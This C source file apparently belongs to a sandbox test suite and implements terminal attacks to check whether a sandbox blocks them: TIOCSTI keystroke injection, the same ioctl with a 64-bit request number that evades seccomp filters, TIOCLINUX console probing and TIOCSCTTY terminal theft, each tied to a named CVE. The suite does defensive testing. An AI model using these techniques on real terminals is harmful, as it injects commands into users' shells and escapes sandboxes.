/* Attacks on the terminal that a sandbox is started from. */
#define _GNU_SOURCE
#include "calls.h"
#include <fcntl.h>
#include <poll.h>
#include <pty.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>
#include <utmp.h>

/* Gives what the child says to our own output, until it is gone. */
static int relay(int master, pid_t child) {
    char text[4096];
    ssize_t length;
    while ((length = read(master, text, sizeof text)) > 0)
        if (write(STDOUT_FILENO, text, (size_t)length) < 0) break;
    int status;
    if (waitpid(child, &status, 0) < 0) return 3;
    return WIFEXITED(status) ? WEXITSTATUS(status) : 3;
}

/* Runs a command on a terminal of its own, and writes to a file what was typed on it meanwhile, which nobody did:
 * `outer-terminal FILE COMMAND...` */
ATTACK("outer-terminal", outer_terminal);
static int outer_terminal(int argc, char **argv) {
    if (argc < 3) return 3;
    int master, slave;
    struct termios modes;
    if (openpty(&master, &slave, NULL, NULL, NULL) < 0) return broken("openpty");
    if (tcgetattr(slave, &modes) < 0) return broken("tcgetattr");
    modes.c_lflag &= ~(tcflag_t)(ECHO | ICANON); /* what is typed can be read without the end of a line */
    if (tcsetattr(slave, TCSANOW, &modes) < 0) return broken("tcsetattr");
    /* Kept, so that what is typed is not lost as the last of the sandbox closes it. */
    int kept = open(ttyname(slave), O_RDWR | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
    if (kept < 0) return broken("ttyname");
    pid_t child = fork();
    if (child < 0) return broken("fork");
    if (child == 0) {
        close(master);
        if (login_tty(slave) < 0) _exit(3);
        execvp(argv[2], argv + 2);
        _exit(3);
    }
    close(slave);
    /* The terminal has no end of file while we keep it: the child's end is one. */
    int pidfd = (int)syscall(SYS_pidfd_open, child, 0);
    struct pollfd both[] = {{.fd = master, .events = POLLIN}, {.fd = pidfd, .events = POLLIN}};
    char text[4096];
    while (poll(both, 2, -1) >= 0) {
        ssize_t length = both[0].revents & POLLIN ? read(master, text, sizeof text) : 0;
        if (length > 0 && write(STDOUT_FILENO, text, (size_t)length) < 0) break;
        if (length <= 0 && both[1].revents) break;
    }
    ssize_t typed = read(kept, text, sizeof text);
    int file = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (file < 0 || (typed > 0 && write(file, text, (size_t)typed) != typed)) return broken(argv[1]);
    close(kept);
    return relay(master, child);
}

static int type_with(unsigned long request, const char *call) {
    for (const char *c = "id\n"; *c; c++)
        if (syscall(SYS_ioctl, STDIN_FILENO, request, c) < 0) return stopped(call);
    return 0;
}

/* Types a command on the terminal, for the shell that reads it next: CVE-2017-5226. */
ATTACK("tiocsti", by_tiocsti);
static int by_tiocsti(int argc, char **argv) {
    (void)argc, (void)argv;
    return type_with(TIOCSTI, "TIOCSTI");
}

/* The same by a number that a filter takes for another and the kernel does not: CVE-2019-10063, CVE-2019-7303. */
ATTACK("ioctl-64bit", by_ioctl_64bit);
static int by_ioctl_64bit(int argc, char **argv) {
    (void)argc, (void)argv;
    return type_with(TIOCSTI | 1UL << 32, "TIOCSTI | 1 << 32");
}

/* Selects and pastes on a virtual console; what is asked here is only which is in front: CVE-2023-1523. */
static int console = -1;
static long by_tioclinux(void) { return ioctl(console, TIOCLINUX, &(char){12 /* TIOCL_GETFGCONSOLE */}); }
static long by_tioclinux_64bit(void) {
    return syscall(SYS_ioctl, console, TIOCLINUX | 1UL << 32, &(char){12});
}
ATTACK("tioclinux", tioclinux);
static int tioclinux(int argc, char **argv) {
    (void)argc, (void)argv;
    console = open("/dev/tty0", O_RDONLY | O_NOCTTY | O_NONBLOCK);
    printf("/dev/tty0: %s\n", console < 0 ? strerror(errno) : "open");
    static const struct call calls[] = {
        {"TIOCLINUX", by_tioclinux, 0},
        {"TIOCLINUX | 1 << 32", by_tioclinux_64bit, 0},
    };
    return EACH(calls);
}

/* Takes the terminal from the session that has it, whose keys are then the attacker's. */
static long here_by_stealing(void) { return setsid() < 0 ? -1 : ioctl(STDIN_FILENO, TIOCSCTTY, 1); }
static long by_stealing(void) { return apart(here_by_stealing); }
CALLS("terminal-stolen", terminal_stolen, {"TIOCSCTTY", by_stealing, 0});
